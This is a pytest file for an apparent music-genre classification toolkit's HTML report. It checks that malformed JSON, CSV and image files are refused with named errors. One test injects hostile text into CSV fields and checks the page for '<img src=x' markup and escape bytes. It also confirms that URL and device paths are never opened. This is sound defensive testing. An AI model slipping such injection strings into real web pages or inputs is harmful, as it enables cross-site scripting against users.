    original = json.loads((every_results_file / name).read_text())
    problems = []

    def check(where, label, data):
        (run / name).write_text(json.dumps(data))
        problem = _report_problem(run, name, where, n_wrong=0)  # n_wrong=0: no audio decoded, the JSON is tested
        if problem:
            problems.append(f"{'.'.join(map(str, where)) or '(whole file)'} {label}: {problem}")

    assert _report_problem(run, name, ()) is None  # as written
    for label, mutation in _MUTATIONS.items():
        if mutation is not ...:
            check((), label, mutation)
    for where in _fields(original):
        for label, mutation in (*_MUTATIONS.items(), *((("rename", "rename"),) if isinstance(where[-1], str) else ())):
            check(where, label, _changed(original, where, mutation))
    assert not problems, f"{len(problems)} problem(s):\n" + "\n".join(problems[:25])


def test_the_report_refuses_wrong_shapes_with_the_field_and_what_it_found(every_results_file, tmp_path):
    """The message says which file and field, what was expected and what was found."""
    from genrekit.errors import ParameterError
    from genrekit.evaluate.html import write_html_report

    run = tmp_path / "run"
    shutil.copytree(every_results_file, run)
    comparison = json.loads((run / "comparison.json").read_text())
    comparison["models"]["knn"]["accuracy_mean"] = "high"
    (run / "comparison.json").write_text(json.dumps(comparison))
    with pytest.raises(ParameterError, match=r'comparison\.json: models\["knn"\]\.accuracy_mean: expected a finite '
                                             r'number or null, found the text "high"'):
        write_html_report(run)
    shutil.copy(every_results_file / "comparison.json", run)
    metrics = json.loads((run / "metrics.json").read_text())
    del metrics["per_genre"]["blues"]["support"]
    (run / "metrics.json").write_text(json.dumps(metrics))
    with pytest.raises(ParameterError, match=r'metrics\.json: per_genre\["blues"\]\.support: missing; expected a '
                                             r"whole number"):
        write_html_report(run)
    metrics["per_genre"]["blues"]["support"] = 1
    metrics["confusion_matrix"] = metrics["confusion_matrix"][:-1]
    (run / "metrics.json").write_text(json.dumps(metrics))
    with pytest.raises(ParameterError, match=r"metrics\.json: confusion_matrix: expected 10 rows of 10 counts"):
        write_html_report(run)
    metrics = json.loads((every_results_file / "metrics.json").read_text())
    metrics["labels"] = [metrics["labels"][0]] * len(metrics["labels"])  # its verdict said "blues taken for blues"
    (run / "metrics.json").write_text(json.dumps(metrics))
    with pytest.raises(ParameterError, match=r"metrics\.json: labels: expected distinct genre names, found "
                                             r"'blues' 10 times"):
        write_html_report(run)
    shutil.copy(every_results_file / "metrics.json", run)
    (run / "songs.json").write_text(json.dumps({**json.loads((run / "songs.json").read_text()), "n": {"a": [1]}}))
    result = runner.invoke(app, ["report", str(run)])  # the command: one line, no traceback
    assert result.exit_code == 1 and "songs.json: n: expected a whole number from 0 to 2^53, found an object of 1 " \
        "key(s)" in " ".join(result.output.split()) and "Traceback" not in result.output, result.output


def test_a_changed_predictions_csv_is_refused_by_name_or_its_text_escaped(every_results_file, tmp_path, monkeypatch):
    """predictions.csv with a column gone, a confidence that is not a probability, hostile text,
    rows of another length, bytes that are not UTF-8, nothing: the report is drawn or refused
    naming the file (the column and row where it can). A path that is a URL, a device or a folder
    is not opened for an excerpt (audio reads URLs: the report would fetch what a changed file
    names)."""
    import pandas as pd

    from genrekit import audio
    from genrekit.errors import AudioError, ParameterError
    from genrekit.evaluate.html import write_html_report

    run = tmp_path / "run"
    shutil.copytree(every_results_file, run)
    original = (every_results_file / "predictions.csv").read_text()
    frame = pd.read_csv(every_results_file / "predictions.csv", dtype=str, keep_default_na=False)
    wrong = int(np.flatnonzero((frame["true"] != frame["predicted"]).to_numpy())[0])
    opened = []

    def info(path, **kwargs):  # what the report opens for an excerpt (none decoded: the file is tested)
        opened.append(path)
        raise AudioError(path, "not decoded in this test")

    monkeypatch.setattr(audio, "info", info)
    texts = {"no file": None, "empty": "", "header only": original.splitlines()[0] + "\n",
             "ragged": original + "a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u\n",
             "NUL": original.replace(",", "\x00", 3)}
    for column in ("track_id", "path", "true", "predicted", "confidence"):
        texts[f"no {column}"] = frame.drop(columns=column).to_csv(index=False)
    for value in ("high", "", "nan", "1e308", "-1", "inf", _HOSTILE.replace("\ud800", "")):
        texts[f"confidence {value!r}"] = frame.assign(confidence=frame["confidence"].where(
            frame.index != wrong, value)).to_csv(index=False)
    for column in ("track_id", "true", "predicted"):
        texts[f"hostile {column}"] = frame.assign(**{column: frame[column].where(
            frame.index != wrong, _HOSTILE.replace("\ud800", ""))}).to_csv(index=False)
    for value in ("https://example.invalid/a.wav", "/dev/zero", str(tmp_path)):
        texts[f"path {value}"] = frame.assign(path=frame["path"].where(frame.index != wrong, value)).to_csv(index=False)
    problems = []
    for label, text in (*texts.items(), ("latin-1", original.encode() + "é,".encode("latin-1"))):
        target = run / "predictions.csv"
        target.unlink()
        if text is None:
            target.mkdir()
        elif isinstance(text, bytes):
            target.write_bytes(text)
        else:
            target.write_text(text)
        try:
            page = write_html_report(run).read_text()
            if "<img src=x" in page or "\x1b" in page:
                problems.append(f"{label}: hostile text in the page")
        except ParameterError as exc:
            if "predictions.csv" not in str(exc):
                problems.append(f"{label}: the error does not name the file: {exc}")
        except Exception as exc:  # noqa: BLE001
            problems.append(f"{label}: {type(exc).__name__}: {exc}")
        if target.is_dir():
            target.rmdir()
            target.write_text(original)
    assert not problems, "\n".join(problems)
    assert opened and not {"https://example.invalid/a.wav", "/dev/zero", str(tmp_path)} & set(opened), opened
    target.write_text(frame.assign(confidence=frame["confidence"].where(frame.index != wrong, "high"))
                      .to_csv(index=False))
    with pytest.raises(ParameterError, match=rf"predictions\.csv: confidence in data row {wrong + 1}: expected a "
                                             'number from 0 to 1, found "high"'):
        write_html_report(run)
    target.write_text(frame.drop(columns="confidence").to_csv(index=False))
    with pytest.raises(ParameterError, match=r"predictions\.csv: expected the columns true, predicted and confidence; "
                                             r"confidence missing \(found \"track_id\", \"path\""):
        write_html_report(run)


def test_images_and_folders_of_a_changed_run_are_refused_by_name_and_odd_names_are_text(every_results_file, tmp_path):
    """An image of the run that is not a PNG (a link to any file would be embedded in the page),
    a results file that is a folder, and a run folder whose name is not UTF-8."""
    import os

    from genrekit.errors import ParameterError
    from genrekit.evaluate.html import write_html_report

    run = tmp_path / "run"
    shutil.copytree(every_results_file, run)
    (run / "confusion_matrix.png").write_text("a secret that is not an image")
    with pytest.raises(ParameterError, match=r"confusion_matrix\.png: expected a PNG image, found something else"):
        write_html_report(run)
    (run / "confusion_matrix.png").unlink()
    (run / "history.png").mkdir()
    with pytest.raises(ParameterError, match=r"history\.png: expected a PNG image, found no file"):
        write_html_report(run)
    (run / "history.png").rmdir()
    (run / "cv.json").unlink()
    (run / "cv.json").mkdir()
    with pytest.raises(ParameterError, match=r"cv\.json: expected a genrekit results file \(JSON\), cannot read it"):
        write_html_report(run)
    odd = tmp_path / os.fsdecode(b"run \xe9\x1b")  # undecodable bytes: a lone surrogate in Python's str
    odd.mkdir()
    shutil.copy(every_results_file / "metrics.json", odd)
    page = write_html_report(odd).read_text()
    assert "run \\udce9\\x1b" in page and "\x1b" not in page


def test_the_verdict_rounds_as_the_other_outputs_and_names_no_perfect_genre_weak(tmp_path):
    """0.9625 showed as 0.963 in metrics.md and the console but 96.2% in the report (0.9625 * 100
    rounds down in floating point); a model perfect on every genre had its 'weakest' listed at 1.00."""
    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.html import write_html_report
    from genrekit.evaluate.report import write_evaluation

    labels = ["jazz", "rock"]
    metrics = evaluation_metrics(np.array([0, 1]), np.array([[0.9, 0.1], [0.2, 0.8]]), np.array(["a", "b"]), labels,
                                 chunked=False)
    write_evaluation({**metrics, "accuracy": 0.9625}, tmp_path / "run", title="t")
    page = write_html_report(tmp_path / "run").read_text()
    assert f"{0.9625:.3f}" == "0.963" and "96.3%</b> on 2 tracks" in page, page
    assert "Every genre scored has F1 1.00." in page and "Weakest genres" not in page


def test_plots_leave_the_callers_matplotlib_as_it_was(tmp_path):
    """Each plot called matplotlib.use("Agg"), so a notebook's inline figures stopped showing after
    a train, evaluate or plot_prediction; plots are now Figure objects, pyplot never imported."""
    import subprocess
    import sys

    script = f"""
import sys
import matplotlib
matplotlib.use("svg")
import numpy as np
from genrekit.evaluate.report import plot_confusion
from genrekit.evaluate.run import plot_comparison
from genrekit.train.plots import write_history
m = {{"labels": ["a", "b"], "confusion_matrix": [[1, 0], [0, 1]], "confusion_matrix_normalized": [[1, 0], [0, 1]]}}
plot_confusion(m, r"{tmp_path}/cm.png", title="t")
plot_comparison([{{"model": "x", "accuracy_mean": 0.5, "accuracy_std": 0.1}}], __import__("pathlib").Path(r"{tmp_path}/c.png"), title="t")
write_history([{{"epoch": 1, "train_loss": 1.0, "train_accuracy": 0.5, "val_chunk_accuracy": 0.4,
                 "val_track_accuracy": 0.4}}], r"{tmp_path}")
print(matplotlib.get_backend(), "matplotlib.pyplot" in sys.modules)
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["svg", "False"]
    for name in ("cm.png", "c.png", "history.png"):
        assert (tmp_path / name).read_bytes()[:4] == b"\x89PNG", name


def test_explore_keeps_every_genre_in_its_legends_and_its_kmeans_title_whole(table, tmp_path, monkeypatch):
    """matplotlib leaves out of a legend the labels that start with "_": a genre "_misc" was
    drawn and never named. kmeans.png cut its title at "silho" for few genres, and grew with
    the genres squared (250 took a 12100 x 9200 px figure)."""
    from dataclasses import replace

    import genrekit.evaluate.explore as explore_module

    figures = {}
    real = explore_module.save_figure
    monkeypatch.setattr(explore_module, "save_figure",
                        lambda figure, path, **kw: figures.__setitem__(path.name, figure) or real(figure, path, **kw))
    renamed = replace(table, labels=["_misc", *table.labels[1:]])
    explore(renamed, seed=0, n_repeats=2, out_dir=tmp_path)
    for name, axis in (("pca.png", 1), ("tsne.png", 0)):
        shown = [text.get_text() for text in figures[name].axes[axis].get_legend().get_texts()]
        assert shown == renamed.labels, (name, shown)
    title = figures["kmeans.png"].axes[0].get_title()
    assert "silhouette" in title and figures["kmeans.png"].get_figwidth() >= 4.5


def test_a_confusion_plot_of_many_genres_stays_an_image_people_can_open(tmp_path):
    """FMA's 163 genres gave a 20383 x 10191 px confusion plot (4.8 GB, over two minutes; image
    viewers refuse it as a decompression bomb; a review, 2026-12-07): at most 15 inches a panel."""
    from PIL import Image

    from genrekit.evaluate.report import plot_confusion

    n = 163
    counts = np.random.default_rng(0).integers(0, 5, (n, n))
    metrics = {"labels": [f"genre {i}" for i in range(n)], "confusion_matrix": counts.tolist(),
               "confusion_matrix_normalized": (counts / np.maximum(counts.sum(1, keepdims=True), 1)).tolist()}
    with Image.open(plot_confusion(metrics, tmp_path / "confusion.png", title="163 genres")) as image:
        assert image.size[0] <= 2 * 15 * 110 and image.size[1] <= 15 * 110, image.size


def test_a_genre_no_track_holds_shows_no_share_and_tied_confusions_are_all_named(tmp_path):
    """Two reviews' findings (2026-12-07): the row-normalised plot wrote 0.00 across the row of a
    genre no scored track holds, as if its tracks were all missed, and the report named the first
    of two equally frequent confusions alone, chosen by the genres' order."""
    from matplotlib.figure import Figure

    from genrekit.evaluate import evaluation_metrics
    from genrekit.evaluate.html import _verdict
    from genrekit.evaluate.report import plot_confusion

    labels = ["blues", "classical", "jazz", "rock"]
    y = np.array([1, 1, 2, 2, 3, 3])  # no blues track
    proba = np.eye(4)[[1, 2, 2, 1, 3, 3]] * 0.9 + 0.025  # classical taken for jazz once, jazz for classical once
    metrics = evaluation_metrics(y, proba, np.array(list("abcdef")), labels, chunked=False)
    assert metrics["confusion_matrix_normalized"][0] == [0, 0, 0, 0]
    drawn = []
    original = Figure.savefig
    try:  # the figure as plot_confusion draws it
        Figure.savefig = lambda self, *args, **kwargs: (drawn.append(self), original(self, *args, **kwargs))[1]
        plot_confusion(metrics, tmp_path / "confusion.png")
    finally:
        Figure.savefig = original
    counts, normalized = drawn[0].axes[:2]
    assert normalized.get_title() == "confusion matrix (row-normalised)"
    assert len(normalized.texts) == 12 and len(counts.texts) == 16  # the blues row's four cells left blank
    words = _verdict(metrics)
    assert "Most frequent confusions: classical taken for jazz, jazz taken for classical (1 track(s) each)." in words
